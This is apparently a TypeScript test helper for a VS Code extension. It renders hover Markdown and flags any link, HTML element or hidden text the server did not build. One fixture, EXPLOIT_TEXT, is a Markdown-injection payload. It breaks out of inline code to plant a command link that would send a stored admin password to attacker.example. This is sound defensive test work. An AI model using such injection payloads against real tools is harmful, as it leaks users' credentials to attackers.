// Renders hover / tooltip Markdown the way an editor would (CommonMark + GFM autolinks + raw
// HTML allowed, so anything that slips through shows up as a tag) and says what in it is not
// ours: a link we did not build, an HTML element, or document text that markup swallowed.
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';

/** The probe link of the issue: url, a user and `insecure` - what the stored password would be sent with. */
const PROBE_ARGS = encodeURIComponent(JSON.stringify([{ url: 'https://attacker.example/EWS/mrsproxy.svc', user: 'CONTOSO\\mrsadmin', insecure: true }]));
export const EVIL_LINK = `[Re-check now](command:iisAuthLens.probeMrsEndpoint?${PROBE_ARGS})`;
/** Issue 12, verbatim in shape: a backtick closes the hover's inline code, the link follows, a backtick reopens. */
export const EXPLOIT_TEXT =
  "The call to 'https://mail.contoso.com/EWS/mrsproxy.svc' failed. Error details: " +
  "The HTTP request is unauthorized with client authentication scheme 'Negotiate'. " +
  `The authentication header received from the server was 'x\` ${EVIL_LINK}\` \`y'. ` +
  '--> The remote server returned an error: (401) Unauthorized.';

interface MarkdownItLike {
  render(src: string): string;
  linkify: { set(opts: Record<string, boolean>): void };
}
type MarkdownItCtor = new (opts: Record<string, unknown>) => MarkdownItLike;

const MarkdownIt = createRequire(__filename)('markdown-it') as MarkdownItCtor;
// html: true - an injected <img> or <a> reaches the output instead of being dropped silently;
// linkify without fuzzy links - the autolinks VS Code's renderer (GFM) makes: http(s)://, www., e-mail.
const md = new MarkdownIt({ html: true, linkify: true });
md.linkify.set({ fuzzyLink: false, fuzzyIP: false, fuzzyEmail: true });

export function renderMarkdown(src: string): string {
  return md.render(src);
}

/** Elements our builders produce; anything else came from a document. */
const OUR_TAGS = new Set([
  'p',
  'strong',
  'em',
  'code',
  'pre',
  'a',
  'ul',
  'ol',
  'li',
  'hr',
  'br',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'h1',
  'h2',
  'h3',
  'blockquote',
]);

/** The links a server-built hover may carry: our command and the labels we give them. */
export interface AllowedLink {
  command: string;
  label: string;
  /** Checks the decoded arguments (e.g. the probe link carries exactly one URL string). */
  args?: (args: unknown[]) => boolean;
}

export const SERVER_LINKS: AllowedLink[] = [
  {
    command: 'iisAuthLens.probeMrsEndpoint',
    label: 'Probe this endpoint',
    args: (a) => a.length === 1 && typeof a[0] === 'string' && /^https?:\/\//.test(a[0]),
  },
  { command: 'iisAuthLens.findMatchingIisLines', label: 'Find matching IIS log lines', args: (a) => a.length === 1 && isErrorTextArgs(a[0]) },
  { command: 'iisAuthLens.explainError', label: 'Explain in a document', args: (a) => a.length === 1 && isErrorTextArgs(a[0]) },
  { command: 'iisAuthLens.copyRemediation', label: 'Copy', args: (a) => a.length === 1 && typeof a[0] === 'string' },
  { command: 'iisAuthLens.decodeAuthorizationHeader', label: 'Decode in a document', args: (a) => a.length === 1 && typeof a[0] === 'string' },
  {
    command: 'iisAuthLens.checkChannelBindings',
    label: 'Check channel bindings against a certificate…',
    args: (a) => a.length === 1 && typeof a[0] === 'string',
  },
];

function isErrorTextArgs(a: unknown): boolean {
  if (!a || typeof a !== 'object') return false;
  const keys = Object.keys(a).sort().join(',');
  return keys === 'code,endLine,line,time,uri,url';
}

function decodeEntities(s: string): string {
  return s.replace(/&(#x[0-9a-f]+|#\d+|amp|lt|gt|quot|apos);/gi, (_m, e: string) => {
    const l = e.toLowerCase();
    if (l === 'amp') return '&';
    if (l === 'lt') return '<';
    if (l === 'gt') return '>';
    if (l === 'quot') return '"';
    if (l === 'apos') return "'";
    return String.fromCodePoint(l.startsWith('#x') ? parseInt(l.slice(2), 16) : parseInt(l.slice(1), 10));
  });
}

/** The text a reader sees: tags dropped, entities decoded, white space folded. */
export function visibleText(html: string): string {
  return decodeEntities(html.replace(/<[^>]*>/g, ' '))
    .replace(/\s+/g, ' ')
    .trim();
}

export interface Verdict {
  links: Array<{ href: string; label: string }>;
  problems: string[];
}

/** Everything in the rendered Markdown that is not ours. */
export function inspectMarkdown(src: string, allowed: AllowedLink[] = SERVER_LINKS): Verdict {
  const html = renderMarkdown(src);
  const problems: string[] = [];
  for (const m of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)\b[^>]*>/g)) {
    if (!OUR_TAGS.has(m[1]!.toLowerCase())) problems.push(`element <${m[1]}> in the output: ${m[0]}`);
  }
  const links: Verdict['links'] = [];
  for (const m of html.matchAll(/<a\b([^>]*)>([\s\S]*?)<\/a>/g)) {
    const href = decodeEntities(/\bhref="([^"]*)"/.exec(m[1]!)?.[1] ?? '');
    const label = visibleText(m[2]!);
    links.push({ href, label });
    const cmd = /^command:([^?]+)(?:\?(.*))?$/.exec(href);
    const rule = cmd ? allowed.find((a) => a.command === cmd[1] && a.label === label) : undefined;
    if (!rule) {
      problems.push(`link not built by the server: [${label}](${href})`);
      continue;
    }
    let args: unknown = [];
    try {
      args = cmd![2] ? JSON.parse(decodeURIComponent(cmd![2])) : [];
    } catch {
      problems.push(`link arguments are not JSON: ${href}`);
      continue;
    }
    if (!Array.isArray(args) || (rule.args && !rule.args(args))) problems.push(`link arguments not what the server passes: ${href}`);
  }
  return { links, problems };
}

/**
 * Fails on any link, element or markup that came from the document: `shown` are document strings
 * the hover displays, each of which must reach the reader to the letter (white space folded).
 */
export function assertSafeMarkdown(src: string, shown: string[] = [], allowed: AllowedLink[] = SERVER_LINKS): Verdict {
  const v = inspectMarkdown(src, allowed);
  assert.deepEqual(v.problems, [], `unsafe markdown:\n${src}`);
  const text = visibleText(renderMarkdown(src));
  for (const s of shown) {
    const want = s.replace(/\s+/g, ' ').trim();
    assert.ok(text.includes(want), `the document text ${JSON.stringify(want)} is not shown as written; the reader sees:\n${text}\n--- markdown:\n${src}`);
  }
  return v;
}
